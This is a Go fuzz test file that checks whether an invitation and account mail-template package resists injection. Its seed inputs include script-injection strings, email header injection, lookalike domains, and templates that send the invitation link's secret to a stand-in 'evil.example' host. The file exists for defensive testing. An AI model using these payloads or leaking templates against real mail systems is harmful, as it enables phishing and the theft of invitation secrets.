// Copyright The Usher Authors
// SPDX-License-Identifier: Apache-2.0

package mail_test

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/net/html"

	"github.com/usher-dev/usher/internal/mail"
	"github.com/usher-dev/usher/internal/wording/language"
)

// elements reads HTML as a browser does and lists its elements.
func elements(t *testing.T, source string) []*html.Node {
	t.Helper()
	document, err := html.Parse(strings.NewReader(source))
	if err != nil {
		t.Fatal(err)
	}
	var out []*html.Node
	for n := range document.Descendants() {
		if n.Type == html.ElementNode {
			out = append(out, n)
		}
	}
	return out
}

// outline is what a page is made of, whatever names are in it: its elements, and their attributes. The
// line breaks of a message are left out.
func outline(t *testing.T, source string) []string {
	t.Helper()
	var out []string
	for _, n := range elements(t, source) {
		if n.Data == "br" && n.Parent.Data == "blockquote" {
			continue
		}
		line := n.Data
		for _, a := range n.Attr {
			line += " " + a.Key
		}
		out = append(out, line)
	}
	return out
}

// Whatever the names are, the mail has the same elements as with plain names, one link and one address,
// and can be written.
func FuzzInvitation(f *testing.F) {
	f.Add("Acme", "Developer", "Grace Hopper", "Ada Lovelace", "See you\n\non Monday", byte(0))
	f.Add("<b>", `"><script>alert(1)</script>`, "</title><a href=x>", "{{.Link}}", "<!-- </blockquote> &amp;\n-->", byte(1))
	f.Add("a@b.example", "evil．example", "W\u200bWW.x", "=?utf-8?q?x?=", "1.2.3.4 a.b.c.d。e", byte(2))
	f.Add("\x00Link\x00", "\u202e", "\xff", "a\r\nb", "www\u200b.evil.example", byte(3))
	f.Fuzz(func(t *testing.T, organization, role, by, name, message string, which byte) {
		tag := language.All()[int(which)%len(language.All())]
		d := anInvitation()
		d.Organization, d.Role, d.InvitedBy, d.Name, d.Message = organization, role, by, name, message
		c, err := mail.Templates{}.Invitation(tag, d)
		if err != nil {
			return
		}
		benign := anInvitation()
		benign.InvitedBy, benign.Name, benign.Message = sameEmptiness(by, "B"), sameEmptiness(name, "N"), sameEmptiness(message, "M")
		plain, err := mail.Templates{}.Invitation(tag, benign)
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(outline(t, plain.HTML), outline(t, c.HTML)); diff != "" {
			t.Errorf("a name changes the HTML (-plain +this):\n%s\n%s", diff, c.HTML)
		}
		if links := links(t, c.HTML); len(links) != 1 || links[0] != d.Link {
			t.Errorf("links in the HTML: %q, want only %q", links, d.Link)
		}
		if strings.Count(c.Text, "://") != 1 || !strings.Contains(c.Text, "\n"+d.Link+"\n") {
			t.Errorf("addresses in the text, want only the link:\n%s", c.Text)
		}
		writes(t, c)
	})
}

// Whatever the names and the contact are, a mail about an Account has the subject and the elements of one
// with plain names, one link and one address, and can be written.
func FuzzAccountMails(f *testing.F) {
	f.Add("jane", "jane/acme", "jane.doe@example.com", "help@acme.example", byte(0))
	f.Add("<b>", `"><script>alert(1)</script>`, `"<b>"@example.com`, "</title><a href=x>", byte(1))
	f.Add("{{.Link}}", "<!--", "a&b@example.com", "-->&lt;&#0;", byte(2))
	f.Add("a．b", "1.2.3.4", "a/b@example.com", "x@y.example/a.b.c www\u200b.evil.example", byte(3))
	f.Add("<i>j</i>", "&amp;", "a+b@example.com", "\u202e\xff\r\n\r\nSubject: https://evil.example </p>", byte(6))
	f.Add("\x00UserName\x00", "a\r\nBcc: b", "a\n@example.com", "\u202e\xff\r\n\r\nx", byte(4))
	f.Fuzz(func(t *testing.T, name, other, address, contact string, which byte) {
		tag := language.All()[int(which)%len(language.All())]
		for kind, write := range accountMails {
			data := someFacts()
			data.userName, data.more, data.address, data.contact = name, []string{other}, address, contact
			c, err := write(tag, data)
			if err != nil {
				continue
			}
			benign := someFacts()
			if !strings.Contains(c.HTML, "margin:16px 0 0") { // no contact is left of it
				benign.contact = ""
			}
			plain, err := write(tag, benign)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(outline(t, plain.HTML), outline(t, c.HTML)); diff != "" {
				t.Errorf("%s: a name changes the HTML (-plain +this):\n%s\n%s", kind, diff, c.HTML)
			}
			if c.Subject != plain.Subject {
				t.Errorf("%s: a name changes the subject: %q", kind, c.Subject)
			}
			showsOnly(t, c, onlyLinks[kind])
		}
	})
}

// links are the addresses that a page leads to or loads.
func links(t *testing.T, source string) []string {
	t.Helper()
	var out []string
	for _, n := range elements(t, source) {
		for _, a := range n.Attr {
			if a.Key == "href" || a.Key == "src" {
				out = append(out, a.Val)
			}
		}
	}
	return out
}

// writes tells whether a content can be mailed.
func writes(t *testing.T, c mail.Content) {
	t.Helper()
	m := aMessage()
	m.Content = c
	if _, err := m.Bytes(); err != nil {
		t.Errorf("the mail cannot be written: %v", err)
	}
}

// pieces are what pages are made of, for the fuzzer to put together.
var pieces = []string{
	`{{.Link}}`, `{{$.Link}}`, `{{if .Name}}`, `{{else}}`, `{{end}}`, `{{with .Link}}`, `{{.}}`, `{{or .Link "x"}}`, `{{.Name}}`,
	`<a href="`, ` href='`, ` href=`, `<img src="`, ` srcset="`, ` title="`, ` onclick="`, ` style="`, ` data-href="`, `<p`, `<meta content="0;url=`,
	`"`, `'`, `>`, ` `, `/`, `=`, `x`, `?`, "\n", `<!--`, `-->`, `<style>`, `</style>`, `<svg>`, `<noscript>`, `</noscript>`, `<plaintext>`,
	`<xmp>`, `<select><option>`, `<table><tr><td background="`, `<`, `</`, `>form`, `<![CDATA[`, `]]>`, `url(`, `)`, "`", `&#34;`, `{{/* x */}}`,
	`//evil.example/?u=`, `{{- .Link -}}`, `&nbsp;`, `<b>`, `</b>`, `<p>`, `</p>`, `<br>`, `<table>`, `<tr>`, `<td>`, `</table>`, `</body>`,
}

func sameEmptiness(s, other string) string {
	if strings.TrimSpace(s) == "" {
		return ""
	}
	return other
}

// FuzzParseTemplates: no template makes it panic or run long, and one that is taken shows the link, has
// no element that acts, and gives the link to nobody else: it is no part of any other address.
func FuzzParseTemplates(f *testing.F) {
	for _, seed := range []map[string]string{
		ownInvitation(),
		ownInvitation("invitation.txt", "{{if and .Name (or .Role (not .InvitedBy))}}a{{else if eq .Role `x` .Name}}b{{else}}c{{end}}{{$.Link}}"),
		ownInvitation("invitation.html", "<!-- c --><style>p{}</style><p {{if .Name}}class=a{{end}}>{{with .Message}}{{.}}{{end}}<A HREF = '{{.Link}}'>x</A>"),
		ownInvitation("invitation.html", `{{.Link}}<img src="https://evil.example/{{.Link}}"><fo{{if .Name}}rm{{end}} action=x>`),
		ownInvitation("invitation.html", `{{.Link}}<script>{{.Link}}</script><a onclick="{{.Link}}" style="{{.Link}}" title={{.Link}}>`),
		ownInvitation("invitation.html", `{{.Link}}<table background="x{{.Link}}"><textarea>{{.Link}}</textarea><![CDATA[{{.Link}}]]><?x {{.Link}}?>`),
		ownInvitation("invitation.html", `{{.Link}}{{if .Name}}<a href="{{else}}<img href="{{end}}{{.Link}}"><noscript><p title="</noscript><img src={{.Link}}>">`),
		ownInvitation("invitation.txt", "{{.Link}}\nhttps://evil.example/?u={{if .Name}}\n{{end}}{{with .Link}}{{.}}{{end}}"),
		ownInvitation("invitation.html", "{{.Link}}\nhttps://evil.example/?u=<b>{{.Link}}</b><table> <tr>{{.Link}}</table></div>{{$.Link}}"),
		ownInvitation("invitation.txt", `{{range 9999999999}}{{end}}{{define "x"}}{{template "x"}}{{end}}{{block "y" .}}{{end}}{{call .X}}{{printf "%d" 1 | len}}`),
	} {
		f.Add(seed["invitation.subject"], seed["invitation.txt"], seed["invitation.html"], []byte{0, 9, 3})
	}
	f.Fuzz(func(t *testing.T, subject, text, page string, more []byte) {
		for _, b := range more {
			page += pieces[int(b)%len(pieces)]
		}
		start := time.Now()
		templates, errs := mail.ParseTemplates(map[string]string{
			"invitation.subject": subject, "invitation.txt": text, "invitation.html": page,
		})
		if took := time.Since(start); took > 5*time.Second {
			t.Errorf("took %s", took)
		}
		for _, e := range errs {
			if e.Reason == "" || strings.ContainsAny(e.Error(), "\n\r\x00") {
				t.Errorf("not a sentence: %q", e.Error())
			}
		}
		if len(errs) > 0 {
			return
		}
		bare := anInvitation()
		bare.InvitedBy, bare.Name, bare.Message = "", "", ""
		for _, d := range []mail.InvitationData{anInvitation(), bare} {
			showsTheLink(t, templates, d)
		}
	})
}

func showsTheLink(t *testing.T, templates mail.Templates, d mail.InvitationData) {
	t.Helper()
	c, err := templates.Invitation("de", d)
	if err != nil {
		t.Fatalf("a template that was taken fails: %v", err)
	}
	if c.Subject == "" || !strings.Contains(c.Text, d.Link) || !strings.Contains(c.HTML, html.EscapeString(d.Link)) {
		t.Errorf("the subject or the link is missing: %+v", c)
	}
	if strings.Contains(c.Subject, d.Link) {
		t.Errorf("the subject shows the link: %q", c.Subject)
	}
	standsAlone(t, c.Text, d.Link)
	document, err := html.Parse(strings.NewReader(c.HTML))
	if err != nil {
		t.Fatal(err)
	}
	for n := range document.Descendants() {
		if n.Type == html.TextNode {
			standsAlone(t, n.Data, d.Link)
		}
	}
	leaks(t, c.HTML, d.Link)
	writes(t, c)
}

// standsAlone looks at what a mail program could take for an address.
func standsAlone(t *testing.T, text, link string) {
	t.Helper()
	for _, word := range strings.FieldsFunc(text, func(r rune) bool { return strings.ContainsRune(" \t\r\n", r) }) {
		if strings.Contains(word, link) && word != link {
			t.Errorf("the link is a part of %q", word)
		}
	}
}

// leaks looks for elements that act, and for attributes that carry the secret of the link elsewhere.
func leaks(t *testing.T, source, link string) {
	t.Helper()
	secret := link[strings.IndexByte(link, '#')+1:]
	for _, n := range elements(t, source) {
		if slices.Contains([]string{"script", "iframe", "object", "embed", "form", "base", "link", "svg", "math"}, n.Data) {
			t.Errorf("the HTML has a <%s>:\n%s", n.Data, source)
		}
		for _, a := range n.Attr {
			if strings.Contains(a.Key+a.Val, secret) && (a.Key != "href" || a.Val != link) {
				t.Errorf("the link is in %s=%q:\n%s", a.Key, a.Val, source)
			}
		}
	}
}

func TestHugeTemplatesAreReadAtOnce(t *testing.T) {
	t.Parallel()
	const size = 64 << 10
	filled := func(piece, end string) string {
		n := size / (len(piece) + len(end))
		return strings.Repeat(piece, n) + strings.Repeat(end, n)
	}
	for name, source := range map[string]string{
		"nested choices":          filled("{{if .Name}}", "{{end}}"),
		"nested withs":            filled("{{with .Name}}", "{{end}}"),
		"choices one by one":      filled("{{if .Name}}a{{else}}b{{end}}", ""),
		"a long chain of choices": "{{if .Name}}" + filled("{{else if .Role}}", "") + "{{end}}",
		"nested parentheses":      "{{if " + strings.Repeat("(", 9000) + ".Name" + strings.Repeat(")", 9000) + "}}{{end}}",
		"nested calls":            "{{if " + strings.Repeat("(not ", 9000) + ".Name" + strings.Repeat(")", 9000) + "}}{{end}}",
		"nested faults":           "{{if " + strings.Repeat("(eq ", 9000) + ".Name" + strings.Repeat(")", 9000) + "}}{{end}}",
		"unknown fields":          filled("{{.A}}", ""),
		"one long field":          "{{." + strings.Repeat("A", size-10) + "}}",
		"one long chain":          "{{." + strings.Repeat("A.", size/2-10) + "A}}",
		"many values":             filled("{{.Message}}", ""),
		"elements":                filled("<p>", "</p>"),
		"active elements":         filled("<form>", ""),
		"open brackets":           filled("<", ""),
		"open comments":           filled("<!--", ""),
		"closed comments":         filled("<!---->", ""),
		"types of the document":   filled("<!doctype ", ""),
		"titles":                  "<title>" + filled("<a", ""),
		"strings of a style":      "<style>" + filled(`""`, ""),
		"names of elements":       filled("<a", ""),
		"quotes":                  "<p title='" + filled(`"<a href=`, "") + "'>",
		"definitions":             filled("{{define `x`}}", "{{end}}"),
		"line breaks":             filled("\n", "") + "{{.A}}",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			for _, file := range []string{"invitation.subject", "invitation.txt", "invitation.html"} {
				start := time.Now()
				templates, _ := mail.ParseTemplates(ownInvitation(file, source[:min(len(source), size-10)]+"\n{{.Link}}"))
				if _, err := templates.Invitation("en", anInvitation()); err != nil {
					t.Error(err)
				}
				if took := time.Since(start); took > 5*time.Second {
					t.Errorf("%s took %s", file, took)
				} else {
					t.Logf("%s took %s", file, took)
				}
			}
		})
	}
}
